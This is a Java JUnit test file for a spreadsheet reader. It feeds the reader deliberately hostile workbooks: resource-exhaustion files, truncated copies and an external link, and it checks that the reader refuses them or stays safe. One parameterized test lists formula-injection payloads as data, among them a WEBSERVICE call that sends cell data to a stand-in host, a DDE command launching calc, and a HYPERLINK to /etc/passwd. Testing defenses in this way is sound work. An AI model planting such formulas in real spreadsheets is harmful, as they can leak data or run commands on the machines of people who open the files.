package vn.sovang.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.function.IntFunction;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.sovang.base.ProblemException;
import vn.sovang.exchange.sheet.Cell;
import vn.sovang.exchange.sheet.Sheet;

/** Files that are well made and yet would do harm: to memory, to time, or by calling out. */
class HostileContentTest {
    private static final Duration SOON = Duration.ofSeconds(60);
    private static final String TYPES = "<Types xmlns=\"x\"/>";
    private static final String RELATIONS = "<Relationships><Relationship Id=\"rId1\" Type=\"x/worksheet\""
            + " Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId2\" Type=\"x/externalLink\""
            + " Target=\"http://192.0.2.1/away.xlsx\" TargetMode=\"External\"/></Relationships>";
    private static final String BOOK = "<workbook xmlns:r=\"r\"><sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"rId1\"/>"
            + "<sheet name=\"B\" sheetId=\"2\" r:id=\"rId2\"/></sheets></workbook>";

    @TempDir
    Path folder;

    @Test
    void aMillionEmptyRowsTakeNeitherTimeNorMemory() throws IOException {
        Path file = book(1_048_575, r -> "<row r=\"" + r + "\" ht=\"15\"/>", "<row><c><v>5</v></c></row>");

        Sheet sheet = assertTimeoutPreemptively(SOON, () -> SheetReader.read(file, 1));

        assertEquals(0, sheet.rows().size());
        assertEquals(1_048_576, sheet.heading().number());
    }

    @Test
    void rowsOfStylesAloneAreEmpty() throws IOException {
        Path file = book(300_000, r -> "<row><c r=\"XFD" + r + "\" s=\"1\"/></row>", "<row><c><v>5</v></c></row>");

        Sheet sheet = assertTimeoutPreemptively(SOON, () -> SheetReader.read(file, 1));

        assertEquals(300_001, sheet.heading().number());
    }

    @Test
    void aTableOfBillionsOfCellsIsRefused() throws IOException {
        Path file = book(100_000, r -> "<row><c r=\"XFD" + r + "\"><v>1</v></c></row>", "");

        assertEquals(206, code(file));
    }

    @Test
    void linksOutOfTheFileAreNoSheets() throws IOException {
        Path file = book(1, r -> "<row><c t=\"inlineStr\"><is><t>Mã</t></is></c></row>", "");

        assertEquals(List.of("A"), SheetReader.sheets(file));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WEBSERVICE(\"http://192.0.2.1/?\"&amp;A1)",
                "cmd|'/C calc'!A0",
                "HYPERLINK(\"file:///etc/passwd\",\"x\")",
                "'[\\\\192.0.2.1\\share\\book.xlsx]A'!A1",
                "IMPORTXML(\"http://192.0.2.1\",\"//a\")"
            })
    void aFormulaThatWouldCallOutGivesWhatWasSavedAndNothingElse(String formula) throws IOException {
        Path file = book(
                1,
                r -> "<row><c t=\"str\"><f>" + formula + "</f><v>lưu sẵn</v></c><c><f>" + formula + "</f></c></row>",
                "");

        Sheet sheet = SheetReader.read(file, 1);

        assertEquals("lưu sẵn", sheet.heading().cell(0).text());
        assertEquals(Cell.Kind.ERROR, sheet.heading().cell(1).kind());
    }

    @Test
    void aFormulaThatWouldCallOutOfAnOldWorkbookIsNotRun() throws IOException {
        Path file = folder.resolve("công thức.xls");
        try (HSSFWorkbook book = new HSSFWorkbook();
                OutputStream out = Files.newOutputStream(file)) {
            var row = book.createSheet("A").createRow(0);
            row.createCell(0).setCellValue("Mã");
            row.createCell(1).setCellFormula("HYPERLINK(\"http://192.0.2.1/\",\"x\")");
            book.write(out);
        }

        assertEquals("Mã", SheetReader.read(file, 1).heading().cell(0).text());
    }

    @ParameterizedTest
    @ValueSource(strings = {"xls", "xlsx"})
    void everyTruncatedCopyEndsInASentence(String format) throws IOException {
        Path file = folder.resolve("thiếu." + format);
        try (Workbook book = format.equals("xls") ? new HSSFWorkbook() : new XSSFWorkbook();
                OutputStream out = Files.newOutputStream(file)) {
            var sheet = book.createSheet("A");
            for (int r = 0; r < 300; r++) {
                sheet.createRow(r).createCell(0).setCellValue("dòng " + r);
            }
            book.write(out);
        }
        byte[] whole = Files.readAllBytes(file);
        for (int length = 8; length < whole.length - 600; length += whole.length / 50) {
            Files.write(file, Arrays.copyOf(whole, length));
            assertEquals(205, code(file), "cut at " + length + " of " + whole.length);
        }
    }

    @Test
    void anOldWorkbookTooLargeIsRefusedUnread() throws IOException {
        Path file = folder.resolve("lớn.xls");
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file))) {
            out.write(
                    new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
                    });
            byte[] nothing = new byte[1 << 20];
            for (int i = 0; i < 65; i++) {
                out.write(nothing);
            }
        }

        assertEquals(217, code(file));
    }

    private static int code(Path file) {
        return assertTimeoutPreemptively(
                SOON,
                () -> assertThrows(ProblemException.class, () -> SheetReader.read(file, 1))
                        .problem()
                        .code());
    }

    private Path book(int rows, IntFunction<String> row, String last) throws IOException {
        Path file = folder.resolve("tự làm.xlsx");
        try (ZipOutputStream zip = new ZipOutputStream(new BufferedOutputStream(Files.newOutputStream(file)))) {
            put(zip, "[Content_Types].xml", TYPES);
            put(zip, "xl/workbook.xml", BOOK);
            put(zip, "xl/_rels/workbook.xml.rels", RELATIONS);
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            zip.write("<worksheet><sheetData>".getBytes(StandardCharsets.UTF_8));
            for (int r = 1; r <= rows; r++) {
                zip.write(row.apply(r).getBytes(StandardCharsets.UTF_8));
            }
            zip.write((last + "</sheetData></worksheet>").getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        return file;
    }

    private static void put(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }
}
